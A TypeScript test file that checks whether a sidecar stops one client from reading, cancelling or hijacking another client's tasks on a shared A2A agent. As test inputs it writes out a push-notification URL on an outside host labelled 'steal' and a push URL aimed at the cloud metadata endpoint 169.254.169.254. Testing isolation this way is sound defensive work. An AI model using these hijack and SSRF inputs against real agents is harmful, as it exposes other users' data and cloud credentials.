// Cross-client task isolation (issue 13, DESIGN §1.8, §2.10, §2.13 "task isolation"): behind one
// shared credential the SDK agent cannot tell clients apart, so bob can read, cancel, subscribe to,
// add a webhook to, continue and list alice's task. Through the isolation hooks (driven by a relay
// that calls them where the data path does: test/support/a2a-hooks-relay.ts) every such call is
// answered TaskNotFound exactly as the agent answers an unknown task, and nothing reaches the agent.
// The hooks read the real SDK agent's real answer bytes (JSON and SSE, both generations).
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Client } from '@a2a-js/sdk/client';
import { compileEgressList } from '../../sidecar/proxy/egress-rules.js';
import { Resolver } from '../../sidecar/proxy/resolver.js';
import { a2aIsolationHooks } from '../../sidecar/a2a/isolation.js';
import { TaskOwners } from '../../sidecar/a2a/tasks.js';
import {
  type A2aAgent,
  type A2aClientKind,
  type A2aTestClient,
  type A2aWebhook,
  a2aClient,
  collect,
  startA2aAgent,
  startA2aWebhook,
} from '../support/a2a-peers.js';
import { startTestSidecar, type TestSidecar } from '../support/sidecar.js';
import { type HooksRelay, startHooksRelay } from '../support/a2a-hooks-relay.js';

const ALICE = { authorization: 'Bearer alice' };
const BOB = { authorization: 'Bearer bob' };

let agent: A2aAgent;
let relay: HooksRelay;
let tasks: TaskOwners;

beforeAll(async () => {
  // 'shared': every caller is one user of the agent — what a sidecar injecting one credential makes.
  agent = await startA2aAgent({ sdk: '1.3.0', users: 'shared', stepMs: 50 });
  tasks = new TaskOwners();
  const hooks = a2aIsolationHooks({ tasks, resolver: new Resolver(), own: () => new Set() });
  relay = await startHooksRelay(agent.base, 'agent1', hooks, {
    egress: { allow: compileEgressList(['*'], 'egress.allow').entries, deny: [] },
    maxFilteredResponseBytes: 1 << 20,
  });
});
afterAll(async () => {
  await relay?.close();
  await agent?.close();
});

/** Starts a `wait` task (runs until cancelled) for the client and returns its id and context (from the first stream event). */
async function longTask(c: A2aTestClient): Promise<{ id: string; contextId: string }> {
  const [first] = await collect(c.stream('wait', { metadata: { skill: 'wait' } }), (e) => e.kind === 'task' || e.kind === 'status');
  if (!first || (first.kind !== 'task' && first.kind !== 'status')) throw new Error(`no task event: ${JSON.stringify(first)}`);
  return { id: first.taskId, contextId: first.kind === 'task' ? first.contextId : '' };
}

/** ListTasks through the 1.3.0 SDK client (the test interface has no list): the ids listed. */
async function list(c: A2aTestClient): Promise<string[]> {
  const r = await (c.sdk as Client).listTasks({
    tenant: '',
    contextId: '',
    status: 0,
    pageSize: 100,
    pageToken: '',
    historyLength: 0,
    includeArtifacts: false,
  } as never);
  return r.tasks.map((t) => t.id);
}

/** The error a client call raised, or a failure naming what it returned. */
async function failure(p: Promise<unknown> | (() => Promise<unknown>)): Promise<Error> {
  try {
    const v = await (typeof p === 'function' ? p() : p);
    throw new Error(`expected a refusal, got ${JSON.stringify(v)}`);
  } catch (e) {
    if (e instanceof Error && e.message.startsWith('expected a refusal')) throw e;
    return e as Error;
  }
}

describe('the attack (baseline, directly at the agent with one shared credential)', () => {
  it('bob reads and cancels alice’s task: the agent alone does not isolate', async () => {
    const alice = await a2aClient('js1-jsonrpc', `${agent.base}/`, ALICE);
    const bob = await a2aClient('js1-jsonrpc', `${agent.base}/`, BOB);
    const t = await longTask(alice);
    expect((await bob.getTask(t.id)).id).toBe(t.id);
    expect((await bob.cancelTask(t.id)).state).toBe('canceled');
  });
});

const KINDS: A2aClientKind[] = ['js1-jsonrpc', 'js1-rest', 'js1-compat-jsonrpc', 'js1-compat-rest', 'js03-jsonrpc'];

describe.each(KINDS)('through the hooks, %s', (kind) => {
  let alice: A2aTestClient;
  let bob: A2aTestClient;
  let t: { id: string; contextId: string };

  beforeAll(async () => {
    alice = await a2aClient(kind, `${relay.base}/`, ALICE);
    bob = await a2aClient(kind, `${relay.base}/`, BOB);
    t = await longTask(alice);
    expect(tasks.ownerOf('agent1', 'task', t.id)).toMatch(/^auth:/);
  });
  afterAll(async () => {
    await alice.cancelTask(t.id).catch(() => undefined);
  });

  it('alice reaches her own task', async () => {
    expect((await alice.getTask(t.id)).id).toBe(t.id);
  });

  const bobCalls: [string, (c: A2aTestClient, id: string, contextId: string) => Promise<unknown>][] = [
    ['GetTask', (c, id) => c.getTask(id)],
    ['CancelTask', (c, id) => c.cancelTask(id)],
    ['SubscribeToTask', (c, id) => collect(c.resubscribe(id))],
    ['push config create', (c, id) => c.pushSet(id, { id: 'steal', url: 'http://93.184.216.34/steal' })],
    ['push config get', (c, id) => c.pushGet(id, 'any')],
    ['push config list', (c, id) => c.pushList(id)],
    ['push config delete', (c, id) => c.pushDelete(id, 'any')],
    ['message.taskId (continuing her task)', (c, id) => c.send('hello', { taskId: id })],
    ['message.contextId (joining her context)', (c, _id, contextId) => c.send('hello', { contextId })],
  ];

  it.each(bobCalls)('bob: %s on alice’s task → TaskNotFound, nothing reaches the agent', async (what, call) => {
    if (what.startsWith('message.contextId') && !t.contextId) return;
    const before = agent.calls.length;
    const beforeRequests = agent.requests.length;
    const e = await failure(() => call(bob, t.id, t.contextId));
    // Each SDK reports TaskNotFound its own way; all of them carry the agent's wording.
    expect(`${e.constructor.name} ${e.message}`).toMatch(/Task ?Not ?Found|Task not found|-32001|404/i);
    expect(agent.calls.length).toBe(before);
    expect(agent.requests.length).toBe(beforeRequests);
  });

  it('bob probing an unknown id gets the same answer as for alice’s', async () => {
    const foreign = await failure(bob.getTask(t.id));
    const unknown = await failure(bob.getTask('no-such-task'));
    expect(foreign.constructor.name).toBe(unknown.constructor.name);
    expect(foreign.message.replace(t.id, 'ID')).toBe(unknown.message.replace('no-such-task', 'ID'));
  });

  it('alice’s task stays alive for her after bob’s attempts', async () => {
    expect((await alice.getTask(t.id)).state).toBe('working');
  });
});

describe('answers of every shape teach the owner table', () => {
  it.each<[A2aClientKind, 'send' | 'stream']>([
    ['js1-jsonrpc', 'send'],
    ['js1-rest', 'send'],
    ['js1-compat-jsonrpc', 'send'],
    ['js1-compat-rest', 'stream'],
    ['js03-jsonrpc', 'stream'],
  ])('%s %s: a count task is alice’s only', async (kind, how) => {
    const alice = await a2aClient(kind, `${relay.base}/`, ALICE);
    const bob = await a2aClient(kind, `${relay.base}/`, BOB);
    let id: string;
    if (how === 'send') {
      const r = await alice.send('count 2', { metadata: { skill: 'count', delayMs: 10 } });
      if (r.kind !== 'task') throw new Error('expected a task');
      id = r.task.id;
    } else {
      const events = await collect(alice.stream('count 2', { metadata: { skill: 'count', delayMs: 10 } }));
      id = events.find((e) => e.kind === 'task' || e.kind === 'status')!.taskId as string;
    }
    expect((await alice.getTask(id)).state).toBe('completed');
    await failure(bob.getTask(id));
  });

  it('an echo message (no task) makes its context alice’s', async () => {
    const alice = await a2aClient('js1-jsonrpc', `${relay.base}/`, ALICE);
    const bob = await a2aClient('js1-jsonrpc', `${relay.base}/`, BOB);
    const r = await alice.send('hello', { metadata: { skill: 'echo' } });
    const contextId = (r.raw as { contextId: string }).contextId;
    expect(contextId).not.toBe('');
    expect(tasks.ownerOf('agent1', 'context', contextId)).toMatch(/^auth:/);
    await failure(bob.send('hi', { contextId }));
    expect((await alice.send('again', { contextId })).kind).toBe('message');
  });
});

describe('ListTasks', () => {
  it.each<A2aClientKind>(['js1-jsonrpc', 'js1-rest'])('%s: each client lists only its own tasks', async (kind) => {
    const alice = await a2aClient(kind, `${relay.base}/`, ALICE);
    const bob = await a2aClient(kind, `${relay.base}/`, BOB);
    const a = await alice.send('count 1', { metadata: { skill: 'count', delayMs: 1 } });
    const b = await bob.send('count 1', { metadata: { skill: 'count', delayMs: 1 } });
    if (a.kind !== 'task' || b.kind !== 'task') throw new Error('expected tasks');
    const direct = await a2aClient(kind, `${agent.base}/`, BOB);
    const all = await list(direct);
    expect(all).toEqual(expect.arrayContaining([a.task.id, b.task.id])); // the agent lists everyone's
    const mine = await list(bob);
    expect(mine).toContain(b.task.id);
    expect(mine).not.toContain(a.task.id);
    expect(await list(alice)).not.toContain(b.task.id);
  });
});

describe('the refusal is the agent’s own unknown-task answer, byte for byte', () => {
  let aliceTask: string;
  beforeAll(async () => {
    aliceTask = (await longTask(await a2aClient('js1-jsonrpc', `${relay.base}/`, ALICE))).id;
  });

  const rpc = (version: string, method: string, params: unknown) => ({
    path: '/a2a/jsonrpc',
    init: {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'a2a-version': version, accept: 'text/event-stream, application/json', ...BOB },
      body: JSON.stringify({ jsonrpc: '2.0', id: 9, method, params }),
    },
  });
  const rest = (version: string, method: string, path: string) => ({
    path: `/a2a/rest${path}`,
    init: { method, headers: { 'a2a-version': version, ...BOB } },
  });

  it.each<[string, (id: string) => { path: string; init: RequestInit }]>([
    ['1.0 GetTask', (id) => rpc('1.0', 'GetTask', { id })],
    ['1.0 CancelTask', (id) => rpc('1.0', 'CancelTask', { id })],
    ['1.0 SubscribeToTask', (id) => rpc('1.0', 'SubscribeToTask', { id })],
    ['0.3 tasks/get', (id) => rpc('0.3', 'tasks/get', { id })],
    ['0.3 tasks/resubscribe (an SSE error event)', (id) => rpc('0.3', 'tasks/resubscribe', { id })],
    [
      '0.3 message/send continuing it',
      (id) => rpc('0.3', 'message/send', { message: { kind: 'message', messageId: 'm', role: 'user', parts: [{ kind: 'text', text: 'x' }], taskId: id } }),
    ],
    ['1.0 REST GET /tasks/{id}', (id) => rest('1.0', 'GET', `/tasks/${id}`)],
    ['1.0 REST POST /tasks/{id}:cancel', (id) => rest('1.0', 'POST', `/tasks/${id}:cancel`)],
    ['0.3 REST GET /v1/tasks/{id}', (id) => rest('0.3', 'GET', `/v1/tasks/${id}`)],
  ])('%s', async (_what, make) => {
    const unknown = 'u'.repeat(aliceTask.length);
    const viaRelay = make(aliceTask);
    const direct = make(unknown);
    const before = agent.calls.length;
    const a = await fetch(`${relay.base}${viaRelay.path}`, viaRelay.init);
    expect(agent.calls.length).toBe(before);
    const b = await fetch(`${agent.base}${direct.path}`, direct.init);
    expect(a.status).toBe(b.status);
    const media = (r: Response) => (r.headers.get('content-type') ?? '').split(';')[0];
    expect(media(a)).toBe(media(b));
    expect((await a.text()).split(aliceTask).join(unknown)).toBe(await b.text());
  });
});

// ---------------------------------------------------------------------------------------------
// End to end through the sidecar's data path (sidecar/a2a/handler.ts with the isolation hooks).

describe('through the sidecar, two clients of one agent with a shared credential', () => {
  let sidecarAgent: A2aAgent;
  let webhook: A2aWebhook;
  let tg: TestSidecar;
  beforeAll(async () => {
    sidecarAgent = await startA2aAgent({ sdk: '1.3.0', users: 'shared', stepMs: 50 });
    webhook = await startA2aWebhook();
    tg = await startTestSidecar(`
sources:
  - name: agent1
    protocol: a2a
    url: ${sidecarAgent.base}
    a2a: { jsonrpc: /a2a/jsonrpc, rest: /a2a/rest }
    headers: { Authorization: "Bearer the-one-shared-credential" }
egress:
  allow: ["127.0.0.1:${new URL(webhook.url).port}"]
defaultAction: forward
`);
  });
  afterAll(async () => {
    await tg?.close();
    await webhook?.close();
    await sidecarAgent?.close();
  });

  it.each<A2aClientKind>(['js1-jsonrpc', 'js1-rest', 'js1-compat-jsonrpc', 'js03-jsonrpc'])(
    '%s: bob’s GetTask, CancelTask, SubscribeToTask and push calls on alice’s task → TaskNotFound; nothing reaches the agent',
    async (kind) => {
      const base = `${tg.base}/a2a/agent1/`;
      const alice = await a2aClient(kind, base, ALICE);
      const bob = await a2aClient(kind, base, BOB);
      const t = await longTask(alice);
      try {
        expect((await alice.getTask(t.id)).id).toBe(t.id);
        sidecarAgent.reset();
        for (const call of [
          () => bob.getTask(t.id),
          () => bob.cancelTask(t.id),
          () => collect(bob.resubscribe(t.id)),
          () => bob.pushSet(t.id, { id: 'steal', url: webhook.url }),
          () => bob.pushGet(t.id, 'steal'),
          () => bob.pushList(t.id),
          () => bob.pushDelete(t.id, 'steal'),
          () => bob.send('hello', { taskId: t.id }),
        ]) {
          const e = await failure(call);
          expect(`${e.constructor.name} ${e.message}`).toMatch(/Task ?Not ?Found|Task not found|-32001|404/i);
        }
        expect(sidecarAgent.calls).toEqual([]);
        expect(sidecarAgent.pushConfigs).toEqual([]);
        expect((await alice.getTask(t.id)).state).toBe('working');
      } finally {
        await alice.cancelTask(t.id).catch(() => undefined);
      }
    },
  );

  it('a refused push URL never reaches the agent; an allowed one delivers to the webhook', async () => {
    const alice = await a2aClient('js1-jsonrpc', `${tg.base}/a2a/agent1/`, ALICE);
    sidecarAgent.reset();
    const e = await failure(alice.send('count 1', { metadata: { skill: 'count' }, push: { id: 'x', url: 'http://169.254.169.254/latest/meta-data/' } }));
    expect(e.message).toMatch(/Push notification URL not allowed/);
    expect(sidecarAgent.pushConfigs).toEqual([]);
    expect(sidecarAgent.messages).toEqual([]);
    const before = webhook.deliveries.length;
    await collect(alice.stream('count 2', { metadata: { skill: 'count', delayMs: 5 }, push: { id: 'ok', url: webhook.url, token: 'tok' } }));
    expect(sidecarAgent.pushConfigs.map((p) => p.url)).toEqual([webhook.url]);
    for (let i = 0; i < 100 && webhook.deliveries.length === before; i++) await new Promise((r) => setTimeout(r, 20));
    expect(webhook.deliveries.length).toBeGreaterThan(before);
  });

  it('ListTasks through the sidecar lists only the caller’s tasks', async () => {
    const alice = await a2aClient('js1-jsonrpc', `${tg.base}/a2a/agent1/`, ALICE);
    const bob = await a2aClient('js1-jsonrpc', `${tg.base}/a2a/agent1/`, BOB);
    const a = await alice.send('count 1', { metadata: { skill: 'count', delayMs: 1 } });
    if (a.kind !== 'task') throw new Error('expected a task');
    expect(await list(alice)).toContain(a.task.id);
    expect(await list(bob)).not.toContain(a.task.id);
  });
});
